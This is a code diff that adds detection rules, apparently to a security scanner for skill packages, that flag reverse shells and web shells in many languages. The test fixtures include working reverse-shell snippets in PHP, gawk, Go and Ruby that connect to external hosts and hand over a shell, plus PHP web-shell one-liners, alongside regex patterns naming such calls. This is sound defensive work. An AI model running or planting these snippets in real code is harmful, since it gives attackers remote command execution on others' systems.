@@ -1,0 +1,93 @@
+/**
+ * Reverse shells as a class, in any language: a socket connected out to a host, and a shell or a
+ * command runner wired to it (the shell's streams are the socket, or what the socket delivers is
+ * run). The per-language rules (reverse-shell.ts) match known one-liners; this one pairs a connect
+ * call with a runner within a short window, whatever lines or names lie between them. Also the
+ * web shell: a request parameter handed straight to a command runner.
+ */
+import type { Hit, Rule, Segment } from "../types.js";
+import { CODE, hitsOf } from "./common.js";
+
+/** Calls and paths that connect a socket out, by language. */
+const CONNECT =
+  /\bfsockopen\s*\(|\bstream_socket_client\s*\(|\bsocket_connect\s*\(|\bIO::Socket::INET\b|\bTCPSocket\.(?:new|open)\b|\bSocket\.tcp\s*\(|\bnet\.Dial(?:TCP|Timeout)?\s*\(|\bTcpStream::connect\b|\bnew\s+Socket\s*\(|\bnew\s+(?:System\.Net\.Sockets\.)?TcpClient\s*\(|\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(|\/inet6?\/tcp\/\d+\/|\bsocket\.connect\s*\(|\bsocket\.tcp\s*\(|\bnet\.(?:connect|createConnection)\s*\(|\bconnect\s*\(\s*(?:SOCK|\$sock|S)\b|\bDeno\.connect\s*\(|\bBun\.connect\s*\(|\bNet\.Sockets\.T[Cc][Pp]Client\b|\bwebsocket\.create_connection\s*\(|\bwebsockets\.connect\s*\(|\bnew\s+WebSocket\s*\(/g;
+/** A client whose output is piped into a shell: `telnet h 80 | /bin/sh | telnet h 81`, `openssl s_client -connect h:443 | sh`. */
+const PIPED_CLIENT = /\b(?:telnet\s+[\w.$-]+\s+\d+|openssl\s+s_client\b[^\n|]{0,80}-connect\s+\S+)[^\n|]{0,40}\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\b/;
+/** A shell program named as what to start (the interactive shell a reverse shell hands over). */
+const SHELL_PROGRAM = /["'`](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|c)?sh(?:\s+-i)?["'`\s]|["'`](?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)["'`]|\bpty\.spawn\b/;
+/** A runner of what the code received (a variable, not a fixed command). */
+const RUNS_RECEIVED = /\b(?:proc_open|popen|shell_exec|passthru|system|exec|IO\.popen|spawn|execSync|Runtime\.getRuntime\(\)\.exec|exec\.Command|Command::new|Process\.Start|Invoke-Expression|iex|os\.system|subprocess\.\w+)\s*\(?\s*\$?\w+\s*[),]|`\$\w+`/;
+/** How far a connect call and the shell wired to it may lie apart (a few statements). */
+const WINDOW = 500;
+
+/** A socket connected to a host whose streams are given to a shell, or whose input is run. */
+function socketShell(segment: Segment): Hit[] {
+  // Documents' snippets are left to the per-language rules, which weigh the prose around them.
+  if (segment.fenced) return [];
+  const text = segment.text;
+  const hits: Hit[] = [];
+  const piped = PIPED_CLIENT.exec(text);
+  if (piped) return [{ index: piped.index, length: piped[0].length }];
+  for (const m of text.matchAll(CONNECT)) {
+    const around = text.slice(m.index, m.index + WINDOW);
+    // gawk's network files: a command read from the socket run as a coprocess (`c |& getline`) or by system().
+    if (m[0].startsWith("/inet")) {
+      const socketVar = /(\w+)\s*=\s*["']\/inet6?\/tcp\//.exec(text.slice(Math.max(0, m.index - 40), m.index + 20))?.[1];
+      const coprocess = [...around.matchAll(/\(?\s*(\w+)\s*\|&\s*getline\b/g)].some((c) => c[1] !== socketVar && !/^(?:print|printf)$/.test(c[1]!)) && /\|&\s*getline\s+\w+/.test(around);
+      if (coprocess || /\bsystem\s*\(/.test(around)) hits.push({ index: m.index, length: m[0].length });
+      continue;
+    }
+    const reads = /\b(?:recv|receive|read|fgets|gets|getline|readline|ReadString|readLine|ReadLine|Read|sysread|on\s*\(\s*["']data)\b/.test(around);
+    if (SHELL_PROGRAM.test(around) || (reads && RUNS_RECEIVED.test(around))) hits.push({ index: m.index, length: m[0].length });
+  }
+  return hits.slice(0, 1);
+}
+
+/** A web request's parameter handed to a command runner or an evaluator: a web shell. */
+const WEB_SHELL =
+  /\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert)\s*\(\s*(?:base64_decode\s*\(\s*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\bRuntime\.getRuntime\(\)\.exec\s*\(\s*request\.getParameter\b/g;
+
+export const socketShellRules: Rule[] = [
+  {
+    id: "SR-SHELL-017",
+    title: "Socket wired to a shell",
+    category: "reverse-shell",
+    severity: "critical",
+    message: "Connects a socket to a host and hands it a shell, or runs what the socket delivers: a reverse shell, whatever the language.",
+    fix: "Remove it. A skill has no reason to give a remote host a shell.",
+    fileKinds: CODE,
+    context: "payload",
+    keywords: ["fsockopen", "stream_socket_client", "socket", "tcpsocket", "dial", "tcpstream", "tcpclient", "connect", "/inet/tcp/", "/inet6/tcp/", "telnet", "s_client"],
+    reach: WINDOW + 200,
+    match: socketShell,
+    examples: {
+      positive: [
+        "=== diag.php\n<?php\n$s = fsockopen('203.0.113.9', 9001);\n$p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);",
+        "=== probe.sh\ngawk 'BEGIN { n = \"/inet/tcp/0/203.0.113.9/7000\"; while ((n |& getline cmd) > 0) { while ((cmd |& getline out) > 0) print out |& n; close(cmd) } }'",
+        "=== agent.go\npackage main\nimport (\"net\"; \"os/exec\")\nfunc main() {\n\tc, _ := net.Dial(\"tcp\", \"203.0.113.9:443\")\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\tcmd.Run()\n}",
+        "=== helper.rb\nrequire 'socket'\ns = TCPSocket.new('support.tools-relay.net', 8443)\nwhile (line = s.gets)\n  s.puts `#{line}`\n  out = IO.popen(line).read\nend",
+      ],
+      negative: [
+        "=== check.php\n<?php\n$s = fsockopen($host, 443, $errno, $errstr, 3);\necho $s ? 'open' : 'closed';",
+        "=== get.awk\nBEGIN { s = \"/inet/tcp/0/example.org/80\"; print \"GET / HTTP/1.0\\r\\n\\r\\n\" |& s; while ((s |& getline line) > 0) print line; close(s) }",
+        "=== ping.go\npackage main\nimport \"net\"\nfunc main() {\n\tc, err := net.Dial(\"tcp\", addr)\n\tif err == nil { c.Close() }\n}",
+      ],
+    },
+  },
+  {
+    id: "SR-SHELL-018",
+    title: "Web shell",
+    category: "reverse-shell",
+    severity: "critical",
+    message: "Runs a web request's parameter as a command or code: anyone who can reach the page runs commands on the server.",
+    fix: "Remove it. Never pass request input to a command runner or eval.",
+    fileKinds: CODE,
+    context: "payload",
+    keywords: ["$_get", "$_post", "$_request", "$_cookie", "$_server", "getparameter"],
+    match: (segment) => (segment.fenced ? [] : hitsOf(WEB_SHELL, segment.text).slice(0, 1)),
+    examples: {
+      positive: ["=== diag.php\n<?php\nif (isset($_POST['c'])) { system($_POST['c']); }", "=== x.php\n<?php @eval(base64_decode($_REQUEST['p']));"],
+      negative: ["=== diag.php\n<?php\n$page = htmlspecialchars($_GET['page'] ?? '');\necho \"page: $page\";"],
+    },
+  },
+];
